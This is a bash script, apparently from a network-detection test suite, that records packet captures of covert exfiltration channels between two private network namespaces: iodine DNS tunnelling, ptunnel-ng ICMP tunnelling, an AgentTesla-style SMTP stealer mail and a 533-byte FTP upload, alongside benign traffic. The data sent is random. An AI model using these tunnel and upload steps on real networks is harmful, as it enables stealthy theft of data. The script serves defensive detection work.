#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# capture-covert.sh WORKDIR: captures the covert-channel scenarios (issue: DNS/ICMP tunnels,
# SMTP and tiny FTP uploads) with the real tools, between two private network namespaces
# joined by a veth pair (a tunnel's two ends in one namespace would talk over lo, not
# through the tunnel). Run as root; it makes its own namespaces and leaves nothing behind.
#   server side 192.168.53.1 (iodined, ptunnel-ng proxy, aiosmtpd, pyftpdlib, a stub resolver)
#   client side 192.168.53.2 (iodine, ptunnel-ng client, ping, smtplib, lftp, getent)
# Raw captures go to WORKDIR/raw/NAME.pcap; compose-covert.sh rewrites them.
set -euo pipefail
WORK=${1:?usage: capture-covert.sh WORKDIR}
HERE=$(cd "$(dirname "$0")" && pwd)
if [ -z "${COVERT_INNER:-}" ]; then
    exec unshare --net --mount env COVERT_INNER=1 "$0" "$@"
fi
RAW=$WORK/raw; mkdir -p "$RAW" "$WORK/srv" "$WORK/files"
SYSPY=/usr/bin/python3
PIDS=()
cleanup() { for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done; wait 2>/dev/null || true
            ip netns del covcli 2>/dev/null || true; }
trap cleanup EXIT
bg() { "$@" & PIDS+=($!); }

mount -t tmpfs none /run 2>/dev/null || true
mkdir -p /run/netns
ip link set lo up
ip netns add covcli
ip link add veth0 type veth peer name veth1
ip link set veth1 netns covcli
ip addr add 192.168.53.1/24 dev veth0; ip link set veth0 up
ethtool -K veth0 tso off gso off gro off >/dev/null 2>&1 || true
C() { ip netns exec covcli "$@"; }
C ip link set lo up; C ip addr add 192.168.53.2/24 dev veth1; C ip link set veth1 up
C ethtool -K veth1 tso off gso off gro off >/dev/null 2>&1 || true
sleep 1

cap() {  # cap NAME FILTER: starts a capture on the server side of the veth
    tcpdump -i veth0 -U -Z root -w "$RAW/$1.pcap" "$2" 2>"$WORK/tcpdump-$1.log" & TD=$!
    for _ in $(seq 50); do grep -q listening "$WORK/tcpdump-$1.log" && break; sleep 0.1; done; sleep 0.3
}
capstop() { sleep 1; kill -INT "$TD"; wait "$TD" || true; echo "captured $1: $(grep captured "$WORK/tcpdump-$1.log")"; }

# ---- DNS: iodine through "the resolver" (iodined answers as the resolver would relay)
iodined -f -c -l 192.168.53.1 -P covertpw 10.53.0.1 t.tunnel-relay.net >"$WORK/iodined.log" 2>&1 & IODD=$!
sleep 1
cap dns_iodine "udp port 53"
C iodine -f -r -P covertpw 192.168.53.1 t.tunnel-relay.net >"$WORK/iodine.log" 2>&1 & IOD=$!
for _ in $(seq 100); do C ip addr show dns0 2>/dev/null | grep -q 10.53.0 && break; sleep 0.2; done
bg "$SYSPY" -c 'import socket,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(("10.53.0.1",9000)); s.listen()
c,_=s.accept()
while c.recv(65536): pass'
sleep 0.5
head -c 30000 /dev/urandom | base64 >"$WORK/files/secrets.txt"
C "$SYSPY" -c 'import socket,sys
s=socket.create_connection(("10.53.0.1",9000),timeout=60); s.sendall(open(sys.argv[1],"rb").read()); s.close()' "$WORK/files/secrets.txt"
sleep 2
kill "$IOD"; wait "$IOD" 2>/dev/null || true
capstop dns_iodine
kill "$IODD"; wait "$IODD" 2>/dev/null || true

# ---- DNS benign: 50 ordinary names (CDN and anti-virus style long names among them) looked
# up with getent (glibc's resolver) against a stub resolver that answers every A/AAAA.
bg "$SYSPY" "$HERE/servers/dns_stub.py" 192.168.53.1 53
sleep 0.5
mkdir -p "$WORK/etc"; echo "nameserver 192.168.53.1" >"$WORK/etc/resolv.conf"
echo "hosts: dns" >"$WORK/etc/nsswitch.conf"
cap dns_lookups "udp port 53"
C unshare --mount bash -c "mount --bind $WORK/etc/resolv.conf /etc/resolv.conf; mount --bind $WORK/etc/nsswitch.conf /etc/nsswitch.conf
for n in \$(cat $HERE/servers/dns_names.txt); do getent ahosts \$n >/dev/null || true; done"
capstop dns_lookups

# ---- ICMP: ordinary pings (default size, and -s 1000 for an MTU check), then ptunnel-ng
cap icmp_ping "icmp"
C ping -c 20 -i 0.2 192.168.53.1 >/dev/null
C ping -c 20 -i 0.2 -s 1000 192.168.53.1 >/dev/null
capstop icmp_ping
sysctl -qw net.ipv4.icmp_echo_ignore_all=1   # the proxy answers, not the kernel
bg "$SYSPY" -c 'import socket
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(("127.0.0.1",9001)); s.listen()
while True:
    c,_=s.accept()
    while c.recv(65536): pass
    c.close()'
bg ptunnel-ng -v 1 >"$WORK/ptunnel-proxy.log" 2>&1
sleep 1
cap icmp_ptunnel "icmp"
C ptunnel-ng -p192.168.53.1 -l8000 -r127.0.0.1 -R9001 >"$WORK/ptunnel-client.log" 2>&1 & PTC=$!
sleep 1
C "$SYSPY" -c 'import socket,sys,time
s=socket.create_connection(("127.0.0.1",8000),timeout=60); s.sendall(open(sys.argv[1],"rb").read()); time.sleep(3); s.close()' "$WORK/files/secrets.txt"
sleep 2; kill "$PTC"; wait "$PTC" 2>/dev/null || true
capstop icmp_ptunnel
sysctl -qw net.ipv4.icmp_echo_ignore_all=0

# ---- SMTP: a workstation mails a stolen file (AgentTesla style); a mail server relays
bg "$SYSPY" -m aiosmtpd -n -l 192.168.53.1:25
C "$SYSPY" -m aiosmtpd -n -l 192.168.53.2:25 & PIDS+=($!)
sleep 1.5
head -c 600 /dev/urandom | base64 >"$WORK/files/passwords.txt"
cap smtp_stealer "tcp port 25"
C "$SYSPY" "$HERE/servers/smtp_send.py" 192.168.53.1 stealer "$WORK/files/passwords.txt"
capstop smtp_stealer
cap smtp_relay_in "tcp port 25"
"$SYSPY" "$HERE/servers/smtp_send.py" 192.168.53.2 inbound ""
capstop smtp_relay_in
cap smtp_relay_out "tcp port 25"
C "$SYSPY" "$HERE/servers/smtp_send.py" 192.168.53.1 relay ""
capstop smtp_relay_out

# ---- FTP: a 533-byte STOR (AgentTesla's size), and a large legitimate download
mkdir -p "$WORK/srv/ftp"; head -c 1000000 /dev/urandom >"$WORK/srv/ftp/release.tar.gz"
head -c 533 /dev/urandom >"$WORK/files/log_533.txt"
bg "$SYSPY" -m pyftpdlib -i 192.168.53.1 -p 21 -w -d "$WORK/srv/ftp" >"$WORK/ftpd.log" 2>&1
sleep 1
cap ftp_small_stor "tcp"
C lftp -c "set ftp:ssl-allow no; set ftp:passive-mode yes; open -u anonymous,x ftp://192.168.53.1; put $WORK/files/log_533.txt -o PW_user-PC_2026.html"
capstop ftp_small_stor
cap ftp_download "tcp"
C lftp -c "set ftp:ssl-allow no; set ftp:passive-mode yes; open -u anonymous,x ftp://192.168.53.1; get release.tar.gz -o $WORK/files/dl.tar.gz"
capstop ftp_download
